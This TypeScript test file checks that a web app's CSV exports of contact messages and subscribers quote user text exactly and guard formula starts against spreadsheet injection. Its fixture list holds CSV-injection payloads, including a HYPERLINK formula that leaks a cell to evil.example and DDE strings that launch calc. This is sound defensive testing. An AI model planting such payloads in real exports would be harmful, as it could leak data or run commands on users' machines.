// CSV injection through the two exports staff download (contact messages, subscribers): every text a
// visitor could have typed, stored as it came, is read back from the file exactly, with the
// apostrophe that keeps a spreadsheet from running it as a formula where it needs one.
import { randomUUID } from "node:crypto";
import fc from "fast-check";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { exportHeader, exportSubmissionRows } from "#app/features/contact/inbox/inbox.server.ts";
import { startSubscribersExport, SUBSCRIBERS_CSV_FILENAME, SUBSCRIBERS_CSV_HEADER } from "#app/features/subscribers/subscribers-export.server.ts";
import { csvResponse } from "#app/lib/csv.ts";
import { parseCsv, spreadsheetSafe } from "#tests/utils/csv-parse.ts";
import { insertStaffUser, type StaffUser } from "#tests/utils/staff-builders.ts";
import { insertSubscribers } from "#tests/utils/subscriber-rows.ts";
import { createTestDb, type TestDb } from "#tests/utils/test-db.ts";

/** Formula starts (OWASP's list, DDE, behind whitespace), separators, quotes and line breaks. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+44 20 7946 0321",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\n=1+1",
  "=1+1\r\n=2+2",
  "Ann, Ltd",
  'Ann "the" Lee',
  "two\nlines",
  "two\r\nlines",
  "'already quoted",
  "=😀,\"x\"",
  "ordinary text",
];
/** More cells from fast-check, fixed by the seed; PostgreSQL cannot store NUL, which the forms refuse anyway. */
const GENERATED = fc
  .sample(fc.oneof(fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", " ", ",", '"', "a", "é") }), fc.string({ unit: "grapheme" })), {
    numRuns: 60,
    seed: 20261121,
  })
  .filter((value) => !value.includes("\0"));
const VALUES = [...HOSTILE, ...GENERATED];

let t: TestDb;
let editor: StaffUser;

beforeAll(async () => {
  t = await createTestDb();
});
afterAll(() => t?.cleanup());
beforeEach(async () => {
  for (const table of ["contact_submissions", "subscribers", "webhook_configs", "jobs", "audit_log", "user"] as const) await t.db.deleteFrom(table).execute();
  editor = await insertStaffUser(t.db, { email: "ed@brandcheck.test", role: "editor" });
});

/** The file as the browser saves it: bytes decoded as UTF-8, byte-order mark kept for the parser to skip. */
async function readCsv(response: Response): Promise<string[][]> {
  return parseCsv(new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer()));
}

describe("the contact messages export", () => {
  it("reads back every field exactly, formulas guarded", async () => {
    const rows = VALUES.map((value, index) => ({
      id: randomUUID(),
      name: value,
      email: value,
      company: value,
      message: value,
      status: "new",
      created_at: new Date(Date.UTC(2025, 0, 1) + index * 1000).toISOString(),
      page_id: null,
      source_path: value,
      extra_fields: JSON.stringify([{ label: value, value }]),
    }));
    await t.db.insertInto("contact_submissions").values(rows).execute();

    const [header, ...records] = await readCsv(csvResponse("contact-submissions.csv", exportHeader({}), exportSubmissionRows({ status: null, q: "" }, { database: t.db })));
    expect(header).toEqual(exportHeader({}));
    expect(records).toHaveLength(rows.length);
    const byId = new Map(records.map((record) => [record[0], record]));
    for (const row of rows) {
      const [, , name, email, company, , message, sourcePage, language, otherFields] = byId.get(row.id)!;
      expect(language).toBe("English (en)");
      const value = row.name;
      expect({ name, email, company, message, sourcePage }, JSON.stringify(value)).toEqual({
        name: spreadsheetSafe(value),
        email: spreadsheetSafe(value),
        company: spreadsheetSafe(value),
        message: spreadsheetSafe(value),
        sourcePage: spreadsheetSafe(value),
      });
      expect(otherFields).toBe(spreadsheetSafe(`${value}: ${value}`));
    }
  });
});

describe("the subscribers export", () => {
  it("reads back every e-mail and name exactly, formulas guarded", async () => {
    // The address is unique; the hostile text leads it so a formula start stays at the front.
    const seeds = VALUES.map((value, index) => ({ id: randomUUID(), email: `${value}#${index}`, firstName: value, lastName: value }));
    await insertSubscribers(t.db, seeds);

    const exported = await startSubscribersExport(editor, { database: t.db });
    const [header, ...records] = await readCsv(csvResponse(SUBSCRIBERS_CSV_FILENAME, SUBSCRIBERS_CSV_HEADER, exported!.rows));
    expect(header).toEqual([...SUBSCRIBERS_CSV_HEADER]);
    expect(records).toHaveLength(seeds.length);
    const byId = new Map(records.map((record) => [record[0], record]));
    for (const seed of seeds) {
      const [, email, firstName, lastName] = byId.get(seed.id)!;
      expect({ email, firstName, lastName }, JSON.stringify(seed.firstName)).toEqual({
        email: spreadsheetSafe(seed.email),
        firstName: spreadsheetSafe(seed.firstName),
        lastName: spreadsheetSafe(seed.lastName),
      });
    }
  });
});
